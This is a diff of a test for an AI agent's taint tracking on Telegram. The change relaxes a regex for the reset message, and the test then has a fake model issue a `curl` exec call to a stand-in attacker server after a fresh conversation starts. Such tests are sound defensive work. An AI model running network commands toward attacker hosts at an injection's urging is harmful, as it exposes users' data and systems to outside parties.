@@ -258,7 +258,8 @@ describe("taint on Telegram (exec: risky)", () => {
     expect(attacker.hits).toEqual([]);
 
     await owner().send("/new");
-    await waitFor("the reset", () => emu.botMessages(OWNER).some((m) => m.text.startsWith("Started a fresh conversation")));
+    // "Stopped the current answer. " comes first when the last run was still closing (its answer shown, its records not yet written).
+    await waitFor("the reset", () => emu.botMessages(OWNER).some((m) => /^(Stopped the current answer\. )?Started a fresh conversation/.test(m.text)));
     fake.enqueue(toolCall("exec", { command: `curl -s ${attacker.url}/fresh` }), text("Fetched."));
     await owner().send("fetch that");
     await waitFor("the answer", () => emu.botMessages(OWNER).some((m) => m.text === "Fetched."));
